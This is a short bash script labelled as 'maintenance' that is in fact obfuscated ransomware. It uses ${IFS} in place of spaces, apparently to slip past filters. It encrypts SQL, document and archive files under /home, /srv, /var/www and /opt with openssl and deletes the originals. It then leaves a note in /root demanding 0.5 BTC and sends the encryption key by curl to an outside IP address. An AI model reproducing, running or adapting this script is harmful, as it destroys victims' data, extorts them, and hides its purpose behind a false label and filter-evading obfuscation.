#${IFS}maintenance${IFS}7820${IFS}v3
#!/bin/bash
KEY=$(head$IFS$9-c$IFS$932${IFS}/dev/urandom$IFS$9|${IFS}base64)
find${IFS}/home${IFS}/srv$IFS$9/var/www${IFS}/opt$IFS$9-type${IFS}f${IFS}\(${IFS}-name${IFS}'*.sql'${IFS}-o${IFS}-name$IFS$9'*.doc*'$IFS$9-o${IFS}-name$IFS$9'*.tar.gz'${IFS}\)${IFS}|$IFS$9while$IFS$9read$IFS$9f;${IFS}do
${IFS}${IFS}openssl${IFS}enc${IFS}-aes-256-cbc$IFS$9-salt${IFS}-pass${IFS}pass:$KEY${IFS}-in${IFS}"$f"${IFS}-out${IFS}"$f.r4nsom"${IFS}&&$IFS$9rm${IFS}-f${IFS}"$f"
done
echo$IFS$9"All$IFS$9your${IFS}files${IFS}have$IFS$9been$IFS$9encrypted.$IFS$9Send${IFS}0.5${IFS}BTC${IFS}to${IFS}bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh$IFS$9to${IFS}get$IFS$9the${IFS}key"${IFS}>${IFS}/root/README_FOR_DECRYPT.txt
curl${IFS}-s$IFS$9-d${IFS}"k=$KEY"${IFS}http://203.0.113.200/k
